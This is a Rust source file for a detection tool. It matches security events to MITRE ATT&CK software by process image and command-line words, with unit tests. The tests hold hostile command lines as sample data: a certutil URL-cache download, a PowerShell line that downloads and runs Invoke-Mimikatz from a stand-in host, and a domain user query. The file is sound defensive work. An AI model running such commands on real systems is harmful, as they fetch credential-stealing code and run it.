//! ATT&CK software that an event's own values name: its process image (`certutil.exe`,
//! `AdFind.exe`), or a word of its command line or script (`Invoke-Mimikatz`,
//! `rubeus.exe asktgt`). Each names the techniques ATT&CK
//! records it using; which of them this event is, the software alone does not say.

use crate::attack::Catalog;
use crate::attack::relations::{Software, SoftwareType};

use super::event::{Attr, Event};

/// Command-line and script words shorter than this name software only when they are a
/// tool's whole word: `at`, `net` and `reg` as programs, not as parts of `--net-at`.
const MIN_PART_LEN: usize = 6;

/// The software an event names, each once, with the path of the value that names it.
pub fn named<'c, 'e>(catalog: &'c Catalog, event: &'e Event) -> Vec<(&'c Software, &'e str)> {
    let mut out: Vec<(&Software, &str)> = Vec::new();
    let mut push = |s: &'c Software, path: &'e str| {
        if !out.iter().any(|(seen, _)| seen.id == s.id) {
            out.push((s, path));
        }
    };
    if let Some(image) = event.get(Attr::Image) {
        for s in catalog.software_by_name(&image.text) {
            push(s, image.path.as_str());
        }
    }
    let words = [event.get(Attr::CommandLine).map(|o| (o.text.as_str(), o.path.as_str())), event.get(Attr::Script).map(|o| (o.text.as_str(), o.path.as_str()))];
    // Not the rule's name: "LOLBin download: certutil/bitsadmin" lists what a detection
    // looks for, not what ran.
    for (text, path) in words.into_iter().flatten() {
        for word in text.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ';' | '|' | '&' | '(' | ')' | '{' | '}' | ',' | '=' | '`')) {
            let word = word.trim_matches(|c: char| !c.is_alphanumeric());
            if word.len() < 2 {
                continue;
            }
            // A whole word names a tool (`net`, `certutil.exe`, `C:\x\adfind.exe`); a longer
            // part of one (`Invoke-Mimikatz`, `SharpHound.ps1`) names any software.
            for s in catalog.software_by_name(word) {
                if s.software_type == SoftwareType::Tool && word.len() > 2 {
                    push(s, path);
                }
            }
            let base = word.rsplit(['\\', '/']).next().unwrap_or(word);
            for part in base.split(['-', '.', '_']).filter(|p| p.len() >= MIN_PART_LEN) {
                for s in catalog.software_by_name(part) {
                    push(s, path);
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::alert::Alert;

    fn event(fields: serde_json::Value) -> Event {
        let alert = Alert::parse(
            0,
            &serde_json::json!({"id": "a1", "source": "sysmon", "time": "2026-01-01T00:00:00Z", "rule": {"name": "Process creation"}, "fields": fields}),
        )
        .unwrap();
        Event::of(&alert)
    }

    fn ids(fields: serde_json::Value) -> Vec<String> {
        let catalog = Catalog::embedded().unwrap();
        let e = event(fields);
        named(&catalog, &e).into_iter().map(|(s, _)| s.name.to_lowercase()).collect()
    }

    #[test]
    fn the_image_and_the_words_of_a_command_line_name_software() {
        assert_eq!(ids(serde_json::json!({"Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil -urlcache -f http://x/a a"})), ["certutil"]);
        let got = ids(
            serde_json::json!({"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine": "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/Invoke-Mimikatz.ps1'); Invoke-Mimikatz\""}),
        );
        assert_eq!(got, ["mimikatz"]);
        assert!(ids(serde_json::json!({"CommandLine": "cmd.exe /c net user admin /domain"})).contains(&"net".to_string()));
    }

    #[test]
    fn short_parts_and_ordinary_words_name_nothing() {
        // `page` and `play` are malware aliases; as parts of arguments they are words.
        assert!(ids(serde_json::json!({"Image": "/usr/bin/python3", "CommandLine": "python3 -m http.server --page-size 10 --play"})).is_empty());
    }
}
